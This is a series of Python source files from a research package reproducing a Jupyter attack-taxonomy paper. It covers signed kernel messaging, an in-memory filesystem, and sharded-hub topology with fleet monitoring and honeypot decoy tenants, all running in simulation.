from setuptools import find_packages, setup

setup(
    name="jupyter-attacks-repro",
    version="0.2.0",
    description=(
        "Reproduction of 'Jupyter Notebook Attacks Taxonomy: Ransomware, "
        "Data Exfiltration, and Security Misconfiguration' — simulated "
        "deployments, attacks, monitors, and a multi-tenant hub"
    ),
    package_dir={"": "src"},
    packages=find_packages("src"),
    python_requires=">=3.10",  # dataclass(slots=True) on the hot wire records
    entry_points={
        "console_scripts": [
            "repro=repro.cli.main:main",
            "repro-scan=repro.cli.scan:main",
            "repro-taxonomy=repro.cli.taxonomy:main",
            "repro-attack=repro.cli.attack:main",
            "repro-dataset=repro.cli.dataset:main",
            "repro-monitor=repro.cli.monitor:main",
            "repro-hub=repro.cli.hub:main",
            "repro-topology=repro.cli.topology:main",
        ]
    },
)
