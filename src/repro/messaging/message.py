"""Message model: headers, channels, and the msg_type registry."""

from __future__ import annotations

import json
from dataclasses import dataclass, field
from enum import Enum
from typing import Any, Dict, List, Optional

from repro.util.ids import new_id

PROTOCOL_VERSION = "5.3"
DELIMITER = b"<IDS|MSG>"


class Channel(str, Enum):
    """The five kernel channels of the two-process model (paper Fig. 2)."""

    SHELL = "shell"
    IOPUB = "iopub"
    STDIN = "stdin"
    CONTROL = "control"
    HEARTBEAT = "hb"


#: Which channel each message type travels on — used by the gateway to
#: route and by the monitor's Jupyter-layer analyzer to sanity-check flows.
MSG_TYPE_CHANNELS: Dict[str, Channel] = {
    # shell requests/replies
    "execute_request": Channel.SHELL,
    "execute_reply": Channel.SHELL,
    "inspect_request": Channel.SHELL,
    "inspect_reply": Channel.SHELL,
    "complete_request": Channel.SHELL,
    "complete_reply": Channel.SHELL,
    "history_request": Channel.SHELL,
    "history_reply": Channel.SHELL,
    "kernel_info_request": Channel.SHELL,
    "kernel_info_reply": Channel.SHELL,
    "comm_info_request": Channel.SHELL,
    "comm_info_reply": Channel.SHELL,
    # control
    "shutdown_request": Channel.CONTROL,
    "shutdown_reply": Channel.CONTROL,
    "interrupt_request": Channel.CONTROL,
    "interrupt_reply": Channel.CONTROL,
    "debug_request": Channel.CONTROL,
    "debug_reply": Channel.CONTROL,
    # iopub broadcasts
    "status": Channel.IOPUB,
    "stream": Channel.IOPUB,
    "execute_input": Channel.IOPUB,
    "execute_result": Channel.IOPUB,
    "display_data": Channel.IOPUB,
    "error": Channel.IOPUB,
    "clear_output": Channel.IOPUB,
    # stdin
    "input_request": Channel.STDIN,
    "input_reply": Channel.STDIN,
}


@dataclass
class MsgHeader:
    """The message header (wire protocol §'The wire protocol')."""

    msg_id: str
    msg_type: str
    session: str
    username: str = "scientist"
    date: str = ""
    version: str = PROTOCOL_VERSION

    def to_dict(self) -> Dict[str, Any]:
        return {
            "msg_id": self.msg_id,
            "msg_type": self.msg_type,
            "username": self.username,
            "session": self.session,
            "date": self.date,
            "version": self.version,
        }

    @classmethod
    def from_dict(cls, d: Dict[str, Any]) -> "MsgHeader":
        return cls(
            msg_id=d.get("msg_id", ""),
            msg_type=d.get("msg_type", ""),
            session=d.get("session", ""),
            username=d.get("username", ""),
            date=d.get("date", ""),
            version=d.get("version", PROTOCOL_VERSION),
        )


@dataclass
class Message:
    """A complete protocol message."""

    header: MsgHeader
    parent_header: Optional[MsgHeader] = None
    metadata: Dict[str, Any] = field(default_factory=dict)
    content: Dict[str, Any] = field(default_factory=dict)
    buffers: List[bytes] = field(default_factory=list)
    channel: Optional[Channel] = None

    @property
    def msg_type(self) -> str:
        return self.header.msg_type

    @property
    def msg_id(self) -> str:
        return self.header.msg_id

    def expected_channel(self) -> Optional[Channel]:
        return MSG_TYPE_CHANNELS.get(self.msg_type)

    # -- JSON segments in wire order -----------------------------------------
    def json_segments(self) -> List[bytes]:
        """The four signed JSON segments, in wire order."""
        dumps = lambda obj: json.dumps(obj, sort_keys=True, separators=(",", ":")).encode()
        return [
            dumps(self.header.to_dict()),
            dumps(self.parent_header.to_dict() if self.parent_header else {}),
            dumps(self.metadata),
            dumps(self.content),
        ]

    def to_websocket_json(self) -> str:
        """The JSON framing used on Jupyter's WebSocket channel endpoint."""
        return json.dumps(
            {
                "header": self.header.to_dict(),
                "parent_header": self.parent_header.to_dict() if self.parent_header else {},
                "metadata": self.metadata,
                "content": self.content,
                "channel": (self.channel or self.expected_channel() or Channel.SHELL).value,
                "buffers": [b.hex() for b in self.buffers],
            },
            sort_keys=True,
        )

    @classmethod
    def from_websocket_json(cls, text: str | bytes) -> "Message":
        d = json.loads(text)
        parent = d.get("parent_header") or None
        return cls(
            header=MsgHeader.from_dict(d["header"]),
            parent_header=MsgHeader.from_dict(parent) if parent else None,
            metadata=d.get("metadata", {}),
            content=d.get("content", {}),
            buffers=[bytes.fromhex(h) for h in d.get("buffers", [])],
            channel=Channel(d["channel"]) if d.get("channel") else None,
        )


def make_header(msg_type: str, session: str, *, username: str = "scientist", date: str = "") -> MsgHeader:
    """Construct a fresh header with a new msg_id."""
    return MsgHeader(msg_id=new_id(), msg_type=msg_type, session=session, username=username, date=date)
