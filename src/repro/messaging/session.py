"""Session: signing, serialization, and deserialization of messages.

Mirrors ``jupyter_client.session.Session``.  The wire format is the
multipart list

    [*identities, DELIM, signature, header, parent, metadata, content,
     *buffers]

The signature covers the four JSON segments in order.  ``unserialize``
enforces it and raises :class:`~repro.util.errors.ProtocolError` on
mismatch — signature-spoofing tests and the replay-attack experiments
drive this path.
"""

from __future__ import annotations

import json
from typing import Dict, List, Optional, Sequence

from repro.crypto.signing import HMACSigner, Signer
from repro.messaging.message import (
    DELIMITER,
    Channel,
    Message,
    MsgHeader,
    make_header,
)
from repro.util.clock import Clock, SimClock
from repro.util.errors import ProtocolError
from repro.util.ids import new_id


class Session:
    """One signing context shared by a client or kernel endpoint."""

    def __init__(
        self,
        key: bytes = b"",
        *,
        signer: Optional[Signer] = None,
        session_id: Optional[str] = None,
        username: str = "scientist",
        clock: Optional[Clock] = None,
        check_replay: bool = True,
    ):
        self.signer: Signer = signer if signer is not None else HMACSigner(key)
        self.session_id = session_id or new_id()
        self.username = username
        self.clock = clock or SimClock()
        self.check_replay = check_replay
        self._seen_msg_ids: set[str] = set()
        # Counters the overhead benchmark reads.
        self.messages_signed = 0
        self.messages_verified = 0
        self.verification_failures = 0

    # -- construction ---------------------------------------------------------
    def msg(
        self,
        msg_type: str,
        content: Dict | None = None,
        *,
        parent: Optional[Message] = None,
        metadata: Dict | None = None,
        buffers: Sequence[bytes] = (),
        channel: Optional[Channel] = None,
    ) -> Message:
        """Build a new message in this session."""
        header = make_header(msg_type, self.session_id, username=self.username, date=self.clock.isoformat())
        return Message(
            header=header,
            parent_header=parent.header if parent else None,
            metadata=dict(metadata or {}),
            content=dict(content or {}),
            buffers=list(buffers),
            channel=channel,
        )

    # -- wire encoding ----------------------------------------------------------
    def sign(self, msg: Message) -> bytes:
        self.messages_signed += 1
        return self.signer.sign(msg.json_segments())

    def serialize(self, msg: Message, *, identities: Sequence[bytes] = ()) -> List[bytes]:
        """Serialize to the multipart wire format."""
        segments = msg.json_segments()
        self.messages_signed += 1
        signature = self.signer.sign(segments)
        return [*identities, DELIMITER, signature, *segments, *msg.buffers]

    def unserialize(self, parts: Sequence[bytes]) -> Message:
        """Parse and verify a multipart message.

        Raises :class:`ProtocolError` on missing delimiter, bad signature,
        malformed JSON, or (when ``check_replay``) a repeated msg_id.
        """
        parts = list(parts)
        try:
            idx = parts.index(DELIMITER)
        except ValueError:
            raise ProtocolError("missing <IDS|MSG> delimiter") from None
        after = parts[idx + 1 :]
        if len(after) < 5:
            raise ProtocolError(f"truncated message: {len(after)} segments after delimiter")
        signature, header_b, parent_b, metadata_b, content_b = after[:5]
        buffers = after[5:]
        self.messages_verified += 1
        if not self.signer.verify([header_b, parent_b, metadata_b, content_b], signature):
            self.verification_failures += 1
            raise ProtocolError("invalid HMAC signature on message")
        try:
            header = MsgHeader.from_dict(json.loads(header_b))
            parent_d = json.loads(parent_b)
            metadata = json.loads(metadata_b)
            content = json.loads(content_b)
        except (json.JSONDecodeError, TypeError) as e:
            raise ProtocolError(f"malformed JSON segment: {e}") from None
        if self.check_replay:
            if header.msg_id in self._seen_msg_ids:
                raise ProtocolError(f"replayed msg_id {header.msg_id}")
            self._seen_msg_ids.add(header.msg_id)
        return Message(
            header=header,
            parent_header=MsgHeader.from_dict(parent_d) if parent_d else None,
            metadata=metadata,
            content=content,
            buffers=list(buffers),
        )

    # -- convenience constructors for common requests ---------------------------
    def execute_request(self, code: str, *, silent: bool = False, store_history: bool = True) -> Message:
        return self.msg(
            "execute_request",
            {
                "code": code,
                "silent": silent,
                "store_history": store_history,
                "user_expressions": {},
                "allow_stdin": False,
                "stop_on_error": True,
            },
            channel=Channel.SHELL,
        )

    def kernel_info_request(self) -> Message:
        return self.msg("kernel_info_request", {}, channel=Channel.SHELL)

    def shutdown_request(self, *, restart: bool = False) -> Message:
        return self.msg("shutdown_request", {"restart": restart}, channel=Channel.CONTROL)

    def interrupt_request(self) -> Message:
        return self.msg("interrupt_request", {}, channel=Channel.CONTROL)
