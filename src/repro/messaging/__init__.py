"""Jupyter kernel messaging protocol (wire protocol v5.3).

Implements the message model from the Jupyter client docs the paper
cites ([13], "Messaging in Jupyter"): header/parent_header/metadata/
content envelopes, the channel taxonomy (shell, iopub, stdin, control,
heartbeat), and the on-wire multipart encoding

    [identities..., b"<IDS|MSG>", signature, header, parent, metadata,
     content, buffers...]

signed with the session key.  :class:`Session` is crypto-agile — any
scheme in the :mod:`repro.crypto.signing` registry can sign messages,
which is the migration surface EXP-PQC exercises.
"""

from repro.messaging.message import (
    DELIMITER,
    Channel,
    Message,
    MsgHeader,
    MSG_TYPE_CHANNELS,
)
from repro.messaging.session import Session

__all__ = [
    "Message",
    "MsgHeader",
    "Channel",
    "Session",
    "DELIMITER",
    "MSG_TYPE_CHANNELS",
]
