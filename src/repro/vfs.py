"""Virtual filesystem shared by the server's contents manager and kernels.

A flat path→file map with directory semantics (paths are ``/``-separated,
directories exist implicitly or explicitly), modification times from the
simulation clock, and byte-level contents.  Ransomware walks it; the
contents API serves it; the audit layer records events against it.
"""

from __future__ import annotations

from dataclasses import dataclass, field
from typing import Dict, Iterator, List, Optional, Tuple

from repro.util.clock import Clock, SimClock
from repro.util.errors import ReproError


class VfsError(ReproError):
    """Filesystem operation failure (missing path, is-a-directory, ...)."""


def normalize(path: str) -> str:
    """Collapse a path to canonical form: no leading/trailing slash, no
    empty or dot segments.  Rejects ``..`` traversal outright — the
    misconfig experiments probe traversal at the HTTP layer, and the VFS
    must be the backstop."""
    parts = [p for p in path.split("/") if p not in ("", ".")]
    if any(p == ".." for p in parts):
        raise VfsError(f"path traversal rejected: {path!r}")
    return "/".join(parts)


@dataclass
class FileEntry:
    """One stored file."""

    content: bytes
    created: float
    modified: float
    writable: bool = True


class VirtualFS:
    """In-memory filesystem with simulated timestamps."""

    def __init__(self, clock: Optional[Clock] = None):
        self.clock = clock or SimClock()
        self._files: Dict[str, FileEntry] = {}
        self._dirs: set[str] = {""}
        # Counters for the audit/overhead experiments.
        self.reads = 0
        self.writes = 0
        self.deletes = 0

    # -- directories -----------------------------------------------------------
    def mkdir(self, path: str, *, parents: bool = True) -> None:
        path = normalize(path)
        if path in self._files:
            raise VfsError(f"file exists at {path!r}")
        if parents:
            parts = path.split("/")
            for i in range(1, len(parts) + 1):
                self._dirs.add("/".join(parts[:i]))
        else:
            parent = path.rsplit("/", 1)[0] if "/" in path else ""
            if parent not in self._dirs:
                raise VfsError(f"no such directory: {parent!r}")
            self._dirs.add(path)

    def is_dir(self, path: str) -> bool:
        return normalize(path) in self._dirs

    def is_file(self, path: str) -> bool:
        return normalize(path) in self._files

    def exists(self, path: str) -> bool:
        return self.is_dir(path) or self.is_file(path)

    # -- files -------------------------------------------------------------------
    def write(self, path: str, content: bytes) -> None:
        path = normalize(path)
        if path in self._dirs:
            raise VfsError(f"is a directory: {path!r}")
        parent = path.rsplit("/", 1)[0] if "/" in path else ""
        if parent not in self._dirs:
            self.mkdir(parent)
        now = self.clock.now()
        existing = self._files.get(path)
        if existing is not None:
            if not existing.writable:
                raise VfsError(f"read-only file: {path!r}")
            existing.content = content
            existing.modified = now
        else:
            self._files[path] = FileEntry(content, created=now, modified=now)
        self.writes += 1

    def read(self, path: str) -> bytes:
        path = normalize(path)
        entry = self._files.get(path)
        if entry is None:
            raise VfsError(f"no such file: {path!r}")
        self.reads += 1
        return entry.content

    def delete(self, path: str) -> None:
        path = normalize(path)
        if path in self._files:
            del self._files[path]
            self.deletes += 1
            return
        if path in self._dirs:
            children = [f for f in self._files if f.startswith(path + "/")]
            subdirs = [d for d in self._dirs if d.startswith(path + "/")]
            if children or subdirs:
                raise VfsError(f"directory not empty: {path!r}")
            self._dirs.discard(path)
            self.deletes += 1
            return
        raise VfsError(f"no such path: {path!r}")

    def rename(self, src: str, dst: str) -> None:
        src, dst = normalize(src), normalize(dst)
        if src in self._files:
            if dst in self._files or dst in self._dirs:
                raise VfsError(f"destination exists: {dst!r}")
            entry = self._files.pop(src)
            parent = dst.rsplit("/", 1)[0] if "/" in dst else ""
            if parent not in self._dirs:
                self.mkdir(parent)
            entry.modified = self.clock.now()
            self._files[dst] = entry
            return
        if src in self._dirs:
            if any(d == dst or d.startswith(dst + "/") for d in self._dirs):
                raise VfsError(f"destination exists: {dst!r}")
            moves = [(f, dst + f[len(src):]) for f in list(self._files) if f.startswith(src + "/")]
            for old, new in moves:
                self._files[new] = self._files.pop(old)
            for d in [d for d in self._dirs if d == src or d.startswith(src + "/")]:
                self._dirs.discard(d)
                self._dirs.add(dst + d[len(src):])
            return
        raise VfsError(f"no such path: {src!r}")

    def stat(self, path: str) -> FileEntry:
        path = normalize(path)
        entry = self._files.get(path)
        if entry is None:
            raise VfsError(f"no such file: {path!r}")
        return entry

    def set_writable(self, path: str, writable: bool) -> None:
        self.stat(path).writable = writable

    # -- listing -------------------------------------------------------------------
    def listdir(self, path: str = "") -> List[str]:
        """Immediate children names (files and subdirectories)."""
        path = normalize(path)
        if path and path not in self._dirs:
            raise VfsError(f"no such directory: {path!r}")
        prefix = path + "/" if path else ""
        names = set()
        for f in self._files:
            if f.startswith(prefix) and "/" not in f[len(prefix):]:
                names.add(f[len(prefix):])
        for d in self._dirs:
            if d and d != path and d.startswith(prefix) and "/" not in d[len(prefix):]:
                names.add(d[len(prefix):])
        return sorted(names)

    def walk(self, root: str = "") -> Iterator[str]:
        """Yield every file path under ``root`` in sorted order."""
        root = normalize(root)
        prefix = root + "/" if root else ""
        for path in sorted(self._files):
            if path.startswith(prefix) or path == root:
                yield path

    def total_bytes(self, root: str = "") -> int:
        return sum(len(self._files[p].content) for p in self.walk(root))

    def file_count(self) -> int:
        return len(self._files)

    def snapshot(self) -> Dict[str, bytes]:
        """Copy of all file contents (used by integrity checks in tests)."""
        return {p: e.content for p, e in self._files.items()}
