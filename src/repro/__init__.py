"""jupyter-armor: reproduction of "Jupyter Notebook Attacks Taxonomy:
Ransomware, Data Exfiltration, and Security Misconfiguration"
(Phuong Cao, SC 2024 workshops, arXiv:2409.19456).

The package builds the paper's entire subject matter as a runnable
system: a simulated Jupyter deployment (server, kernels, wire
protocols, network), the attack taxonomy as executable programs, and
the proposed defensive architecture (network monitor, kernel auditor,
honeypot fleet, misconfiguration scanner, anonymized dataset tooling,
post-quantum-ready signing).

Start with :func:`repro.attacks.scenario.build_scenario` — it wires a
complete monitored testbed — or see ``examples/quickstart.py``.

Subsystem map (details in DESIGN.md):

====================  =====================================================
``repro.util``        clocks, seeded RNG streams, entropy, ids, errors
``repro.crypto``      ChaCha20, HMAC signers, hash-based PQ signatures, HNDL
``repro.wire``        HTTP/1.1, WebSocket (RFC 6455), ZMTP 3.0 codecs
``repro.nbformat``    notebook v4 model, validation, trust signatures
``repro.messaging``   Jupyter kernel wire protocol v5.3 (signed multipart)
``repro.simnet``      deterministic discrete-event network with taps
``repro.vfs``         the virtual filesystem kernels and servers share
``repro.kernel``      metered AST-interpreting Python kernel (REPL)
``repro.server``      Jupyter server: auth, contents, terminals, gateway
``repro.taxonomy``    OSCRP model, technique tree, CVE registry, renderers
``repro.monitor``     the Zeek-shaped network monitoring tool
``repro.audit``       the embedded kernel auditing tool + provenance
``repro.attacks``     every avenue of the taxonomy, as programs
``repro.honeypot``    edge decoys, signature harvesting, threat intel
``repro.misconfig``   the configuration scanner (13 hardening checks)
``repro.workload``    benign scientist behaviour for FPR baselines
``repro.dataset``     labeled corpus generation + anonymization
``repro.eval``        detection metrics (confusion matrices, ROC)
``repro.cli``         repro-scan/-taxonomy/-attack/-dataset/-monitor
====================  =====================================================
"""

__version__ = "1.0.0"
__paper__ = "arXiv:2409.19456 (SC 2024 workshops)"
