"""The declarative topology layer: specs in, wired worlds out.

The paper's taxonomy spans single open servers, multi-tenant hubs, and
honeypot deployments; this package makes each of those a *data value* —
a frozen :class:`WorldSpec` — compiled by one :class:`WorldBuilder`.
``Scenario``, ``HubScenario``, and the campaign runner are thin facades
over it, so every attack, benchmark, example, and CLI entry point runs
unchanged against any spec, and a new topology is ~20 lines of spec
rather than a new wiring module.

- :mod:`repro.topology.spec`     — the plain-dataclass vocabulary
  (hosts, taps, servers, hub shards, decoy tenants, sinks, monitors).
- :mod:`repro.topology.builder`  — the compiler (deterministic wiring).
- :mod:`repro.topology.presets`  — the registry: ``single-server``,
  ``hub``, ``sharded-hub``, ``honeypot-hub``.
- :mod:`repro.topology.hashring` — consistent-hash shard assignment.
- :mod:`repro.topology.fleet`    — sharded/honeypot hub scenario types
  and the merged :class:`FleetMonitorView`.
"""

from repro.adversary.policy import AdversaryPolicy
from repro.soc.playbook import ResponsePolicy, ResponseRule
from repro.topology.builder import WorldBuilder
from repro.topology.fleet import (
    FleetMonitorView,
    HoneypotHubScenario,
    HubShard,
    ShardedHoneypotHubScenario,
    ShardedHubScenario,
)
from repro.topology.hashring import ConsistentHashRing
from repro.topology.presets import (
    ADAPTIVE_RESPONSE,
    GEO_LINKS,
    PRESETS,
    adaptive_honeypot_hub_spec,
    adaptive_hub_spec,
    adaptive_sharded_hub_geo_spec,
    adaptive_sharded_hub_spec,
    defend,
    defended_honeypot_hub_spec,
    defended_hub_spec,
    defended_sharded_hub_geo_spec,
    defended_sharded_hub_spec,
    honeypot_hub_spec,
    hub_spec,
    list_presets,
    register_preset,
    resolve_spec,
    sharded_honeypot_hub_spec,
    sharded_hub_geo_spec,
    sharded_hub_spec,
    single_server_spec,
    spec_preset,
    versus,
)
from repro.topology.spec import (
    DecoyTenantSpec,
    HostSpec,
    HubSpec,
    LinkSpec,
    MonitorSpec,
    ServerSpec,
    ShardSpec,
    SinkSpec,
    TapSpec,
    TelemetrySpec,
    WorldSpec,
)

__all__ = [
    "WorldSpec",
    "WorldBuilder",
    "HostSpec",
    "TapSpec",
    "SinkSpec",
    "LinkSpec",
    "MonitorSpec",
    "ServerSpec",
    "ShardSpec",
    "DecoyTenantSpec",
    "HubSpec",
    "TelemetrySpec",
    "HubShard",
    "ShardedHubScenario",
    "HoneypotHubScenario",
    "ShardedHoneypotHubScenario",
    "FleetMonitorView",
    "ConsistentHashRing",
    "ResponsePolicy",
    "ResponseRule",
    "AdversaryPolicy",
    "PRESETS",
    "GEO_LINKS",
    "ADAPTIVE_RESPONSE",
    "single_server_spec",
    "hub_spec",
    "sharded_hub_spec",
    "honeypot_hub_spec",
    "sharded_honeypot_hub_spec",
    "sharded_hub_geo_spec",
    "defended_hub_spec",
    "defended_sharded_hub_spec",
    "defended_honeypot_hub_spec",
    "defended_sharded_hub_geo_spec",
    "adaptive_hub_spec",
    "adaptive_sharded_hub_spec",
    "adaptive_honeypot_hub_spec",
    "adaptive_sharded_hub_geo_spec",
    "defend",
    "versus",
    "spec_preset",
    "list_presets",
    "register_preset",
    "resolve_spec",
]
