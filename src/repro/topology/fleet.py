"""Fleet-scale scenario types the topology layer compiles to.

Two worlds that exist only as specs — no hand-wired module builds them:

- :class:`ShardedHubScenario` — N reverse-proxy front doors over one
  spawner fleet.  Users are pinned to shards by consistent hash, each
  shard carries its own (filtered) tap and monitor, and
  :class:`FleetMonitorView` merges the per-shard views into the single
  fleet-wide picture the paper's NCSA deployment argues for — including
  a fleet-level tenant-sweep detector that catches a pivot spread so
  thinly across shards that no single shard's detector fires.
- :class:`HoneypotHubScenario` — a hub whose tenant list includes decoy
  accounts backed by instrumented honeypot servers, so a cross-tenant
  sweep burns its source and payloads on bait before reaching anyone
  real, and the interactions flow into the shared threat-intel feed.
"""

from __future__ import annotations

from dataclasses import dataclass, field
from typing import Dict, List, Optional

from repro.honeypot.decoy import DecoyJupyterServer, InteractionRecord
from repro.honeypot.fleet import HoneypotFleet
from repro.hub.proxy import ReverseProxy
from repro.hub.scenario import HubScenario
from repro.monitor import JupyterNetworkMonitor
from repro.monitor.anomaly import TenantSweepDetector
from repro.monitor.logs import Notice
from repro.simnet import Host, NetworkTap
from repro.topology.hashring import ConsistentHashRing


@dataclass
class HubShard:
    """One front door: proxy host + its own tap and monitor."""

    name: str
    host: Host
    proxy: ReverseProxy
    tap: NetworkTap
    monitor: JupyterNetworkMonitor


class FleetLogView:
    """Read-only, LogStore-shaped merge over every shard monitor's logs."""

    def __init__(self, view: "FleetMonitorView"):
        self._view = view

    def _merged(self, family: str) -> list:
        records = [r for m in self._view.monitors for r in getattr(m.logs, family)]
        records.sort(key=lambda r: r.ts)
        return records

    @property
    def conn(self):
        return self._merged("conn")

    @property
    def http(self):
        return self._merged("http")

    @property
    def websocket(self):
        return self._merged("websocket")

    @property
    def zmtp(self):
        return self._merged("zmtp")

    @property
    def jupyter(self):
        return self._merged("jupyter")

    @property
    def weird(self):
        return self._merged("weird")

    @property
    def notices(self) -> List[Notice]:
        self._view.refresh()
        merged = [n for m in self._view.monitors for n in m.logs.notices]
        merged.extend(self._view.fleet_notices)
        merged.sort(key=lambda n: n.ts)
        return merged

    def notice_names(self) -> List[str]:
        return [n.name for n in self.notices]

    def notices_for(self, avenue) -> List[Notice]:
        return [n for n in self.notices if n.avenue == avenue]

    def counts(self) -> Dict[str, int]:
        out = {"conn": 0, "http": 0, "websocket": 0, "zmtp": 0,
               "jupyter": 0, "weird": 0}
        for m in self._view.monitors:
            for key, n in m.logs.counts().items():
                if key in out:
                    out[key] += n
        out["notices"] = len(self.notices)
        return out


class FleetMonitorView:
    """The merged monitor: one fleet-wide view over per-shard monitors.

    Quacks enough like :class:`JupyterNetworkMonitor` (``logs``,
    ``observe_file_write``, ``observe_terminal``, ``summary``) that
    attacks, workloads, campaigns, and CLIs written against a single
    monitor run unchanged against a sharded fleet.

    On top of the merge it runs its own :class:`TenantSweepDetector`
    over the union of shard HTTP logs: a source sweeping two tenants per
    shard never trips a shard-local detector, but the fleet view sees
    the full fan-out.
    """

    def __init__(self, monitors: List[JupyterNetworkMonitor], *,
                 sweep_window: float = 120.0, sweep_max_tenants: int = 3,
                 telemetry=None):
        from repro.telemetry import Telemetry

        if not monitors:
            raise ValueError("a fleet view needs at least one monitor")
        self.monitors = list(monitors)
        self.fleet_sweep = TenantSweepDetector(window=sweep_window,
                                               max_tenants=sweep_max_tenants)
        self.fleet_sweep.name = "fleet-tenant-sweep"
        self.fleet_notices: List[Notice] = []
        self._fed = [0] * len(self.monitors)
        self.logs = FleetLogView(self)
        self.telemetry = telemetry if telemetry is not None else Telemetry.disabled()
        self._tele_on = self.telemetry.enabled
        if self._tele_on:
            notices = self.telemetry.registry.counter(
                "fleet_notices_total",
                "Fleet-level (cross-shard) notices emitted")
            self.telemetry.registry.register_collector(
                lambda: notices.set(len(self.fleet_notices)))

    @property
    def primary(self) -> JupyterNetworkMonitor:
        return self.monitors[0]

    @property
    def depth(self):
        return self.primary.depth

    def __getattr__(self, name: str):
        """Anything not merged here resolves to the primary shard's
        monitor — detectors (``egress``, ``cusum``, ...), ``health``,
        ``budget``, ``signatures`` — so code written against a single
        :class:`JupyterNetworkMonitor` (the evasion attacks, the CLIs)
        runs unchanged.  Fleet-wide aggregates live in :meth:`summary`.
        """
        if name.startswith("_") or name == "monitors":
            raise AttributeError(name)
        return getattr(self.monitors[0], name)

    def refresh(self) -> None:
        """Feed shard HTTP records observed since the last refresh into
        the fleet-level sweep detector (incremental, so repeated reads
        of ``logs.notices`` stay cheap)."""
        for i, monitor in enumerate(self.monitors):
            records = monitor.logs.http
            for rec in records[self._fed[i]:]:
                notice = self.fleet_sweep.observe_request(rec.ts, rec.src, rec.path)
                if notice is not None:
                    if self._tele_on:
                        self._stamp_fleet_notice(notice)
                    self.fleet_notices.append(notice)
            self._fed[i] = len(records)

    def _stamp_fleet_notice(self, notice: Notice) -> None:
        """Give a fleet-level notice the same ``detector.hit`` trace
        identity a shard notice gets, parented to the sweeping source's
        request context on whichever shard last saw it."""
        ctx = None
        for monitor in self.monitors:
            hit = monitor._src_ctx.get(notice.src)
            if hit is not None:
                ctx = hit
        span = self.telemetry.tracer.start_span(
            "detector.hit", parent=ctx, ts=notice.ts,
            detector=notice.detector, notice=notice.name,
            severity=notice.severity, src=notice.src, monitor="fleet")
        span.finish(notice.ts)
        notice.trace_id = span.trace_id
        notice.span_id = span.span_id
        self.telemetry.timeline.record(
            notice.ts, "detector.notice", source=notice.src, ctx=span.ctx,
            name=notice.name, severity=notice.severity, monitor="fleet")

    # -- feed-in hooks (kernel auditor, terminals) ----------------------------
    def observe_file_write(self, ts: float, path: str, content: bytes, *,
                           src: str = "kernel") -> None:
        self.primary.observe_file_write(ts, path, content, src=src)

    def observe_terminal(self, ts: float, src: str, command: str) -> None:
        self.primary.observe_terminal(ts, src, command)

    # -- reporting ------------------------------------------------------------
    def summary(self) -> Dict[str, object]:
        health = {"segments": 0, "dropped": 0, "bytes": 0, "parse_errors": 0}
        for m in self.monitors:
            health["segments"] += m.health.segments_seen
            health["dropped"] += m.health.segments_dropped
            health["bytes"] += m.health.bytes_seen
            health["parse_errors"] += m.health.parse_errors
        return {
            "depth": self.depth.name,
            "shards": len(self.monitors),
            "health": health,
            "logs": self.logs.counts(),
            "notices": sorted({n.name for n in self.logs.notices}),
        }


@dataclass
class ShardedHubScenario(HubScenario):
    """A hub with N consistent-hash-routed front doors.

    ``proxy``/``tap``/``monitor`` (inherited) are the primary shard's,
    except ``monitor`` is the merged :class:`FleetMonitorView`; the
    per-shard pieces live in ``shards``.
    """

    shards: List[HubShard] = field(default_factory=list)
    ring: Optional[ConsistentHashRing] = None

    def shard_for(self, username: str) -> HubShard:
        assert self.ring is not None and self.shards
        name = self.ring.node_for(username)
        for shard in self.shards:
            if shard.name == name:
                return shard
        raise KeyError(name)

    def front_door_host(self, tenant: str) -> Host:
        return self.shard_for(tenant).host

    def shard_assignment(self) -> Dict[str, str]:
        """tenant -> shard name, for reporting."""
        assert self.ring is not None
        return {t: self.ring.node_for(t) for t in self.tenant_names}


@dataclass
class HoneypotTenantOps:
    """Decoy-tenant state and queries, mixed into any hub scenario.

    Both the single-front-door :class:`HoneypotHubScenario` and the
    :class:`ShardedHoneypotHubScenario` carry the same decoy machinery;
    only the routing underneath differs (one proxy vs the decoy's
    consistent-hash-assigned shard).
    """

    fleet: Optional[HoneypotFleet] = None
    decoys: List[DecoyJupyterServer] = field(default_factory=list)
    decoy_tenant_names: List[str] = field(default_factory=list)

    def decoy_interactions(self) -> List[InteractionRecord]:
        records = [r for d in self.decoys for r in d.records]
        records.sort(key=lambda r: r.ts)
        return records

    def first_decoy_contact(self, source_ip: str) -> Optional[float]:
        """Timestamp of the first attacker interaction with any decoy."""
        for rec in self.decoy_interactions():
            if rec.source_ip == source_ip:
                return rec.ts
        return None

    def first_real_contact(self, source_ip: str) -> Optional[float]:
        """Timestamp of the first attacker request a *real* tenant served
        (proxied requests are attributed via X-Forwarded-For)."""
        assert self.spawner is not None
        hits = [e.ts
                for spawned in self.spawner.active.values()
                for e in spawned.server.access_log
                if source_ip in (e.source_ip, e.forwarded_for)]
        return min(hits) if hits else None

    def harvest_intel(self) -> Dict[str, int]:
        """Harvest decoy interactions into the shared intel feed: content
        signatures plus burned-source indicators for every IP that
        touched a decoy tenant (no benign user has a reason to)."""
        assert self.fleet is not None
        report = self.fleet.harvest_now()
        burned = self.fleet.publish_source_indicators()
        return {
            "new_signatures": report.new_signatures,
            "new_burned_sources": burned,
            "total_indicators": len(self.fleet.feed.indicators),
            "decoy_interactions": len(self.decoy_interactions()),
        }


@dataclass
class HoneypotHubScenario(HoneypotTenantOps, HubScenario):
    """A hub whose ``/user/<name>`` table includes decoy tenants."""


@dataclass
class ShardedHoneypotHubScenario(HoneypotTenantOps, ShardedHubScenario):
    """A consistent-hash-sharded hub with decoy tenants.

    Each decoy is routed on its hash-assigned shard (the same front door
    a real tenant of that name would use), so a sweeping attacker meets
    bait behind every shard boundary and the per-shard taps attribute
    the burn to the right vantage point.
    """

    def decoy_shard(self, decoy_name: str) -> HubShard:
        return self.shard_for(decoy_name)
