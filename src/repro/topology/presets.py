"""The spec registry: every named topology the repo ships.

Presets are factories, not constants — each takes the same knobs the old
hand-wired builders took (seed, depth, tenant count, hub config, ...)
and returns a frozen :class:`WorldSpec`.  ``spec_preset("sharded-hub",
n_shards=5)`` is the whole API for standing up a variant world; compile
it with :class:`~repro.topology.builder.WorldBuilder`.

Registered presets (``repro topology --list``):

- ``single-server``        — the paper's standalone campus deployment.
- ``hub``                  — multi-tenant hub behind one reverse proxy.
- ``sharded-hub``          — N front-door proxies, consistent-hash user
  routing, one tap per shard, merged fleet monitor view.
- ``honeypot-hub``         — a (misconfigured) hub whose tenant list
  includes decoy accounts backed by instrumented honeypots.
- ``sharded-honeypot-hub`` — shards *and* decoy tenants: each decoy is
  routed on its hash-assigned shard.
